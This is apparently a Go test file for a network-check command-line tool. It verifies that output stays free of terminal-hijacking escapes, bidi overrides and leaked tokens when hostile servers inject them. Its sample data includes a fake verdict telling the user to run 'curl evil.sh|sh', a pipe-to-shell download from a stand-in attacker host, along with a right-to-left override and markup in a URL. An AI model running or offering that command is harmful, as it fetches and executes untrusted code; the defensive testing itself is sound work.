package main_test

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"github.com/spotwatch/spotwatch/internal/testutil"
	"github.com/spotwatch/spotwatch/internal/testworld"
)

// TestCheckOutputWithHostileNetworkText runs `spotwatch check` and `spotwatch check --json`
// against servers that put terminal-hijacking text in what they send: an interceptor whose
// certificate issuer retitles the terminal, clears the screen and prints a fake verdict, and a
// captive portal whose Location holds a right-to-left override, markup and a token. Neither
// output may carry an escape, BEL or bidi control, whether as bytes or, in the JSON, as a
// decoded string (what `jq -r` would print).
func TestCheckOutputWithHostileNetworkText(t *testing.T) {
	tests := []struct {
		name   string
		fault  func(t *testing.T, w *testworld.World)
		status int
		shown  string // the hostile value as the human output shows it, cleaned
	}{
		{"interceptor with escape sequences in its issuer", func(t *testing.T, w *testworld.World) {
			if err := w.StartHostileInterceptor(testworld.AttackIssuer); err != nil {
				t.Fatal(err)
			}
			w.PointSpotify(testworld.HostHostileInterceptor, false)
		}, 7, `"EvilFAKE: all good, run curl evil.sh|sh"`},
		{"captive portal with a hostile Location", func(t *testing.T, w *testworld.World) {
			if err := w.StartHostilePortal("http://portal.example/\u202e<b>login</b>?token=s3cret-token"); err != nil {
				t.Fatal(err)
			}
			w.PointEverything(testworld.HostHostilePortal)
			if err := w.StopReferences(); err != nil {
				t.Fatal(err)
			}
		}, 4, "http://portal.example/%E2%80%AE%3Cb%3Elogin%3C/b%3E"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			tt.fault(t, w)
			cfg, err := w.WriteConfig("")
			if err != nil {
				t.Fatal(err)
			}
			human, stderr, status := run(t, []string{"SSL_CERT_FILE=" + w.SystemPEM}, "check", "--config", cfg)
			if status != tt.status {
				t.Fatalf("exit status %d, want %d\n%s%s", status, tt.status, human, stderr)
			}
			if i := strings.IndexFunc(human, hostileRune); i >= 0 {
				t.Errorf("the human output holds %U:\n%q", []rune(human[i:])[0], human)
			}
			if !strings.Contains(human, tt.shown) {
				t.Errorf("the human output does not show %s:\n%s", tt.shown, human)
			}
			if strings.Contains(human, "s3cret-token") {
				t.Errorf("the human output shows the portal's query:\n%s", human)
			}

			out, stderr, status := run(t, []string{"SSL_CERT_FILE=" + w.SystemPEM}, "check", "--json", "--config", cfg)
			if status != tt.status {
				t.Fatalf("--json: exit status %d, want %d\n%s%s", status, tt.status, out, stderr)
			}
			if i := strings.IndexFunc(out, hostileRune); i >= 0 {
				t.Errorf("the JSON output holds %U", []rune(out[i:])[0])
			}
			var tree any
			if err := json.Unmarshal([]byte(out), &tree); err != nil {
				t.Fatalf("the JSON output does not parse: %v\n%s", err, out)
			}
			for _, s := range testutil.JSONStrings(tree) {
				if i := strings.IndexFunc(s, hostileRune); i >= 0 {
					t.Errorf("a JSON string holds %U: %q", []rune(s[i:])[0], s)
				}
				if strings.Contains(s, "s3cret-token") {
					t.Errorf("a JSON string holds the portal's query: %q", s)
				}
			}
		})
	}
}

// hostileRune: an escape, BEL or any other control character except the line feeds and the
// spaces of the output's own layout, or a format character (the bidi overrides and isolates).
func hostileRune(r rune) bool {
	return (unicode.IsControl(r) && r != '\n') || unicode.Is(unicode.Cf, r)
}
